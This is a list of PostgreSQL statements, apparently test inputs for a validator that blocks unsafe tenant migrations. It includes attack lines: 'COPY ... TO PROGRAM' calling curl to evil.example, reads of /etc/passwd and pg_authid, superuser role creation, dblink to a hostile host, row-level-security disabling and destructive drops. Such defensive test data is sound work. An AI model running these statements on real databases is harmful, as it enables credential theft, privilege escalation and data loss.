DO $$ BEGIN PERFORM 1; END $$
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS 'begin return 1; end'
CREATE PROCEDURE p() LANGUAGE sql AS 'select 1'
CALL p()
DROP FUNCTION f()
DROP PROCEDURE p()
CREATE TRIGGER t BEFORE INSERT ON contacts FOR EACH ROW EXECUTE FUNCTION f()
DROP TRIGGER t ON contacts
CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()
CREATE RULE r AS ON INSERT TO contacts DO INSTEAD NOTHING
DROP RULE r ON contacts
COPY contacts TO '/tmp/contacts'
COPY contacts FROM '/etc/passwd'
COPY contacts TO PROGRAM 'curl https://evil.example'
COPY contacts FROM PROGRAM 'id'
COPY (SELECT 1) TO STDOUT
SET ROLE postgres
SET LOCAL ROLE marketplace_owner
SET SESSION AUTHORIZATION postgres
RESET ROLE
RESET ALL
RESET SESSION AUTHORIZATION
SET search_path = public
SET LOCAL search_path TO other, public
SET statement_timeout = 0
SET app.tenant_id = '01900000-0000-7000-8000-000000000001'
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
SHOW ALL
BEGIN
START TRANSACTION
COMMIT
END
ROLLBACK
SAVEPOINT a
ROLLBACK TO SAVEPOINT a
RELEASE SAVEPOINT a
PREPARE TRANSACTION 'a'
COMMIT PREPARED 'a'
COMMIT; DROP SCHEMA public CASCADE
CREATE TABLE a (id int); COMMIT; SET ROLE postgres
GRANT ALL ON contacts TO PUBLIC
GRANT postgres TO CURRENT_USER
GRANT marketplace_owner TO CURRENT_USER
REVOKE ALL ON contacts FROM marketplace_runtime
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC
CREATE EXTENSION dblink
CREATE EXTENSION IF NOT EXISTS plpython3u
DROP EXTENSION plpgsql
ALTER EXTENSION plpgsql UPDATE
CREATE ROLE evil LOGIN SUPERUSER
CREATE USER evil
ALTER ROLE postgres PASSWORD 'x'
ALTER ROLE CURRENT_USER SUPERUSER
DROP ROLE marketplace_owner
ALTER USER CURRENT_USER WITH CREATEROLE
CREATE DATABASE evil
DROP DATABASE postgres
ALTER DATABASE postgres SET search_path = evil
ALTER SYSTEM SET shared_preload_libraries = 'evil'
CREATE SCHEMA evil
CREATE SCHEMA IF NOT EXISTS tenant_other_crm
DROP SCHEMA tenant_other_crm CASCADE
DROP SCHEMA public
ALTER SCHEMA public RENAME TO evil
ALTER SCHEMA public OWNER TO CURRENT_USER
DROP OWNED BY CURRENT_USER
DROP OWNED BY CURRENT_USER CASCADE
REASSIGN OWNED BY CURRENT_USER TO postgres
EXECUTE q
PREPARE q AS SELECT 1
DEALLOCATE ALL
DISCARD ALL
LISTEN x
NOTIFY x, 'y'
UNLISTEN *
LOAD 'evil'
VACUUM contacts
VACUUM FULL
ANALYZE contacts
CLUSTER contacts
REINDEX TABLE contacts
REINDEX DATABASE postgres
CHECKPOINT
LOCK TABLE contacts
TRUNCATE contacts
TRUNCATE public.contacts CASCADE
REFRESH MATERIALIZED VIEW v
CREATE MATERIALIZED VIEW v AS SELECT 1
EXPLAIN ANALYZE DELETE FROM contacts
DECLARE c CURSOR WITH HOLD FOR SELECT 1
FETCH c
CREATE INDEX CONCURRENTLY i ON contacts (name)
DROP INDEX CONCURRENTLY i
CREATE TABLE public.evil (id int)
CREATE TABLE marketplace.evil (id int)
CREATE TABLE tenant_other_crm.evil (id int)
CREATE TABLE postgres.public.evil (id int)
CREATE TEMP TABLE evil (id int)
CREATE TEMPORARY TABLE evil (id int) ON COMMIT DROP
CREATE UNLOGGED TABLE evil (id int)
CREATE TABLE pg_evil (id int)
CREATE TABLE quintet_ledger (id int)
DROP TABLE quintet_ledger
DELETE FROM quintet_ledger
UPDATE quintet_ledger SET version_to = '9.9.9'
INSERT INTO quintet_ledger VALUES (1)
ALTER TABLE quintet_ledger ADD COLUMN evil int
ALTER TABLE contacts RENAME TO quintet_contacts
ALTER TABLE contacts RENAME TO pg_contacts
CREATE TABLE evil AS SELECT 1
CREATE TABLE evil AS TABLE contacts
SELECT * INTO evil FROM contacts
SELECT 1
SELECT pg_sleep(100)
VALUES (1)
CREATE TABLE evil (id int) INHERITS (contacts)
CREATE TABLE evil PARTITION OF contacts FOR VALUES IN (1)
CREATE TABLE evil (id int) PARTITION BY RANGE (id)
CREATE TABLE evil (id int) TABLESPACE pg_global
CREATE TABLE evil (id int) WITH (autovacuum_enabled = false)
CREATE TABLE evil (id int) USING heap
CREATE TABLE evil (LIKE public.contacts INCLUDING ALL)
CREATE TABLE evil OF sometype
CREATE FOREIGN TABLE evil (id int) SERVER s
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE USER MAPPING FOR CURRENT_USER SERVER s
CREATE FOREIGN DATA WRAPPER w
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO evil
CREATE TABLE evil (id int DEFAULT pg_backend_pid())
CREATE TABLE evil (t text DEFAULT current_setting('app.tenant_id'))
CREATE TABLE evil (t text DEFAULT set_config('role', 'postgres', false))
CREATE TABLE evil (t text DEFAULT pg_read_file('/etc/passwd'))
CREATE TABLE evil (id int CHECK (pg_sleep(10) IS NULL))
CREATE TABLE evil (id int REFERENCES public.users (id))
CREATE TABLE evil (id int REFERENCES identity.users (id))
CREATE TABLE evil (t regclass)
CREATE TABLE evil (t regrole DEFAULT 'postgres')
CREATE TABLE evil (t pg_catalog.pg_authid)
CREATE TABLE evil (t oid)
CREATE TABLE evil (t contacts)
CREATE TABLE evil (t public.mood)
CREATE TABLE evil (t text COLLATE public.evil)
CREATE TABLE evil (t text STORAGE EXTERNAL)
CREATE TABLE evil (id int, EXCLUDE USING gist (id WITH =))
CREATE TABLE evil (id bigint DEFAULT nextval('public.s'))
CREATE TABLE evil (id bigint DEFAULT nextval('tenant_other_crm.s'::regclass))
CREATE TABLE evil (who text DEFAULT current_user)
CREATE TABLE evil (who text DEFAULT session_user)
CREATE TABLE evil (s text DEFAULT current_schema)
CREATE VIEW evil AS SELECT * FROM pg_authid
CREATE VIEW evil AS SELECT * FROM pg_catalog.pg_shadow
CREATE VIEW evil AS SELECT * FROM information_schema.tables
CREATE VIEW evil AS SELECT * FROM identity.users
CREATE VIEW evil AS SELECT * FROM public.contacts
CREATE VIEW evil AS SELECT identity.users.email FROM identity.users
CREATE VIEW evil AS WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT * FROM r
CREATE VIEW evil AS SELECT * FROM generate_series(1, 1000000000)
CREATE VIEW evil AS SELECT * FROM contacts TABLESAMPLE system (1)
CREATE VIEW evil AS SELECT pg_ls_dir('/')
CREATE VIEW evil AS SELECT lo_import('/etc/passwd')
CREATE VIEW evil AS SELECT dblink('host=evil', 'select 1')
CREATE VIEW evil AS SELECT query_to_xml('select 1', true, true, '')
CREATE VIEW evil AS SELECT pg_advisory_lock(1)
CREATE VIEW evil AS SELECT pg_terminate_backend(1)
CREATE VIEW evil AS SELECT has_table_privilege('identity.users', 'select')
CREATE VIEW evil AS SELECT 'identity.users'::regclass
CREATE VIEW evil AS SELECT repeat('x', 1000000000)
CREATE VIEW evil AS SELECT txid_current()
CREATE VIEW evil AS SELECT 1 OPERATOR(public.+) 1
CREATE VIEW evil AS SELECT public.f(1)
CREATE VIEW evil AS SELECT * FROM contacts FOR UPDATE
CREATE VIEW evil WITH (security_barrier) AS SELECT 1
CREATE VIEW public.evil AS SELECT 1
CREATE TEMP VIEW evil AS SELECT 1
CREATE VIEW evil AS SELECT xmlelement(name a)
ALTER TABLE contacts OWNER TO postgres
ALTER TABLE contacts SET SCHEMA public
ALTER TABLE contacts DISABLE ROW LEVEL SECURITY
ALTER TABLE contacts ENABLE ROW LEVEL SECURITY
ALTER TABLE contacts NO FORCE ROW LEVEL SECURITY
ALTER TABLE contacts DISABLE TRIGGER ALL
ALTER TABLE contacts SET TABLESPACE pg_global
ALTER TABLE contacts SET (fillfactor = 10)
ALTER TABLE contacts INHERIT other
ALTER TABLE contacts REPLICA IDENTITY FULL
ALTER TABLE contacts CLUSTER ON i
ALTER TABLE contacts SET UNLOGGED
ALTER TABLE contacts ATTACH PARTITION p DEFAULT
ALTER TABLE contacts ALTER COLUMN a SET STORAGE EXTERNAL
ALTER TABLE public.contacts ADD COLUMN a int
ALTER TABLE pg_class ADD COLUMN a int
ALTER TABLE contacts ADD COLUMN a text DEFAULT pg_read_file('x')
ALTER TABLE contacts ALTER COLUMN a TYPE text USING pg_read_file(a)
ALTER TABLE contacts ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES identity.users (id)
ALTER VIEW v OWNER TO postgres
ALTER VIEW v SET (security_invoker = false)
ALTER INDEX i SET TABLESPACE pg_global
ALTER SEQUENCE s OWNER TO postgres
ALTER SEQUENCE public.s RESTART
ALTER TYPE mood OWNER TO postgres
ALTER TYPE public.mood ADD VALUE 'x'
ALTER TYPE mood SET SCHEMA public
ALTER TYPE public.mood RENAME TO evil
ALTER FUNCTION f() OWNER TO postgres
ALTER POLICY tenant ON contacts USING (true)
CREATE POLICY evil ON contacts USING (true)
DROP POLICY tenant ON contacts
CREATE TYPE evil AS (a int)
CREATE TYPE public.evil AS ENUM ('a')
CREATE TYPE evil AS RANGE (subtype = int4)
CREATE TYPE evil
CREATE DOMAIN evil AS text CHECK (value <> '')
CREATE AGGREGATE evil (int) (sfunc = int4pl, stype = int4)
CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)
CREATE CAST (text AS int) WITH INOUT
CREATE COLLATION evil FROM "C"
CREATE LANGUAGE evil
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE STATISTICS s ON a, b FROM contacts
CREATE TEXT SEARCH CONFIGURATION c (COPY = simple)
CREATE ACCESS METHOD m TYPE INDEX HANDLER h
CREATE TABLESPACE t LOCATION '/tmp'
CREATE SEQUENCE public.s
CREATE TEMP SEQUENCE s
CREATE SEQUENCE s OWNED BY public.contacts.id
CREATE INDEX i ON public.contacts (a)
CREATE INDEX i ON contacts (a) TABLESPACE pg_global
CREATE INDEX i ON contacts (a) WITH (fillfactor = 10)
CREATE INDEX i ON contacts USING evil (a)
CREATE INDEX i ON contacts ((pg_read_file(a)))
CREATE INDEX i ON contacts (a public.evil_ops)
DROP TABLE public.contacts
DROP TABLE identity.users CASCADE
DROP TABLE pg_class
DROP VIEW public.v
DROP TYPE public.mood
DROP MATERIALIZED VIEW v
DROP AGGREGATE a (int)
DROP OPERATOR + (int, int)
COMMENT ON SCHEMA public IS 'x'
COMMENT ON DATABASE postgres IS 'x'
COMMENT ON ROLE postgres IS 'x'
COMMENT ON TABLE public.contacts IS 'x'
COMMENT ON COLUMN public.contacts.a IS 'x'
COMMENT ON FUNCTION f() IS 'x'
SECURITY LABEL ON TABLE contacts IS 'x'
INSERT INTO identity.users (id) VALUES (1)
INSERT INTO contacts SELECT * FROM identity.users
INSERT INTO contacts (name) SELECT rolpassword FROM pg_authid
INSERT INTO contacts (name) VALUES (pg_read_file('/etc/passwd'))
INSERT INTO contacts (name) VALUES ((SELECT email FROM identity.users LIMIT 1))
INSERT INTO contacts (name) SELECT name FROM contacts UNION (SELECT 'x' FROM public.evil)
WITH evil AS (DELETE FROM public.contacts RETURNING *) INSERT INTO contacts SELECT * FROM evil
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) INSERT INTO contacts (n) SELECT n FROM r
UPDATE identity.users SET email = 'x'
UPDATE contacts SET name = set_config('app.tenant_id', 'x', false)
UPDATE contacts SET name = u.email FROM identity.users u
UPDATE pg_database SET datname = 'x'
DELETE FROM identity.users
DELETE FROM contacts USING identity.users
MERGE INTO contacts c USING other o ON c.id = o.id WHEN MATCHED THEN DELETE
CREATE TABLE a (id int); DROP TABLE public.b
CREATE TABLE "public"."evil" (id int)
CREATE TABLE U&"\0070g_evil" (id int)
/* harmless */ SET/**/ROLE/**/postgres
CREATE TABLE a (
SELEKT 1
